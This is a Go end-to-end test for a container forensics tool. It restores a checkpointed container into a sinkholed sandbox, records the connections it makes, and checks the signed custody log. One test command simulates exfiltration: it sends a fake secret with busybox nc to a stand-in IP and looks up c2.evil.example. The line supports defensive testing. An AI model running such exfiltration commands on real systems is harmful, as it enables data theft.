package e2e

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/podsleuth/podsleuth/forensics/evidence"
	"github.com/podsleuth/podsleuth/sandbox"
	"github.com/podsleuth/podsleuth/test/fixtures"
	"github.com/podsleuth/podsleuth/test/testenv"
)

// TestSandboxLocalCLI drives the real binary: a Podman checkpoint archive in the evidence store
// is restored by evidence ID with --local --sinkhole, inspected, entered, made to call home, and
// destroyed; every step lands in the evidence's custody log.
func TestSandboxLocalCLI(t *testing.T) {
	testenv.RequireRoot(t)
	criu := testenv.CRIU(t)
	testenv.Tool(t, "nft")
	testenv.Tool(t, "nsenter")
	runc, busybox := testenv.ClusterTool(t, "runc"), testenv.ClusterTool(t, "busybox")
	tmp := t.TempDir()
	exe := filepath.Join(tmp, "podsleuth")
	build := exec.Command("go", "build", "-o", exe, "./cmd/podsleuth")
	build.Dir = testenv.Root()
	out, err := build.CombinedOutput()
	require.NoError(t, err, "%s", out)

	data, cache := filepath.Join(tmp, "data"), filepath.Join(tmp, "cache")
	st, err := evidence.Open(data)
	require.NoError(t, err)
	item, err := st.Import(t.Context(), filepath.Join(fixtures.Dir(), "archives", "podman-runc.tar"), evidence.Manifest{CaseID: "IR-2024-0042"})
	require.NoError(t, err)
	rootfs := testenv.PodmanFixtureRootfs(t, busybox)

	// the binary signs custody with an analyst key of this test, trusted by the final check
	keys := evidence.Options{KeyFile: filepath.Join(tmp, "analyst.pem"), TrustFile: filepath.Join(tmp, "trusted-keys.json")}
	env := append(os.Environ(), "PODSLEUTH_DATA_DIR="+data, "PODSLEUTH_CACHE_DIR="+cache,
		"PODSLEUTH_SANDBOX_CRIU="+criu, "PODSLEUTH_SANDBOX_RUNTIME="+runc,
		"PODSLEUTH_SIGNING_KEY="+keys.KeyFile, "PODSLEUTH_SIGNING_TRUSTED_KEYS="+keys.TrustFile)
	run := func(args ...string) string {
		t.Helper()
		c := exec.Command(exe, args...)
		c.Env = env
		out, err := c.CombinedOutput()
		require.NoError(t, err, "podsleuth %s: %s", strings.Join(args, " "), out)
		return string(out)
	}

	var info sandbox.Info
	require.NoError(t, json.Unmarshal([]byte(run("restore", item.ID, "--local", "--sinkhole", "--rootfs", rootfs, "-o", "json")), &info))
	t.Cleanup(func() {
		c := exec.Command(exe, "sandbox", "destroy", info.ID)
		c.Env = env
		_ = c.Run()
	})
	require.Equal(t, "stopped", info.State)
	require.Equal(t, item.ID, info.EvidenceID)
	require.Equal(t, "container", info.Kind)

	require.Contains(t, run("sandbox", "list"), info.ID)
	ps := run("sandbox", "ps", info.ID)
	require.Contains(t, ps, "/target --workdir /work --mode full")
	require.Contains(t, ps, "T") // stopped

	run("sandbox", "resume", info.ID)
	// a call home from inside the restored container: busybox nc in its rootfs
	got := run("sandbox", "enter", info.ID, "--", "/bin/busybox", "sh", "-c",
		"echo 'POST /exfil secret=hunter2' | /bin/busybox nc -w 2 203.0.113.66 8443; /bin/busybox nslookup c2.evil.example 192.0.2.53 || true")
	require.Contains(t, got, "198.18.0.1", "DNS answered by the sinkhole")

	var evs []sandbox.SinkholeEvent
	require.Eventually(t, func() bool {
		evs = nil
		_ = json.Unmarshal([]byte(run("sandbox", "connections", info.ID, "-o", "json")), &evs)
		return len(evs) >= 2
	}, 5*time.Second, 100*time.Millisecond)
	var sawTCP, sawDNS bool
	for _, e := range evs {
		if e.Proto == "tcp" && e.Dst == "203.0.113.66:8443" && strings.Contains(e.FirstBytes, "POST /exfil") {
			sawTCP = true
		}
		if e.Proto == "dns" && e.Query == "c2.evil.example" {
			sawDNS = true
		}
	}
	require.True(t, sawTCP && sawDNS, "%+v", evs)

	run("sandbox", "destroy", info.ID)
	require.NotContains(t, run("sandbox", "list"), info.ID)
	_, err = os.Stat(info.Dir)
	require.ErrorIs(t, err, os.ErrNotExist)

	events, err := st.Custody(item.ID)
	require.NoError(t, err)
	var actions []string
	for _, e := range events {
		actions = append(actions, e.Action+":"+e.Details["sandbox_action"])
	}
	for _, want := range []string{"restored:restored", "sandbox:resumed", "sandbox:entered", "sandbox:sinkhole-tcp", "sandbox:sinkhole-dns", "sandbox:destroyed"} {
		require.Contains(t, actions, want)
	}
	signed, err := evidence.OpenWith(data, keys)
	require.NoError(t, err)
	v, err := signed.Verify(t.Context(), item.ID)
	require.NoError(t, err)
	require.True(t, v.OK, "custody chain intact: %+v", v)
}
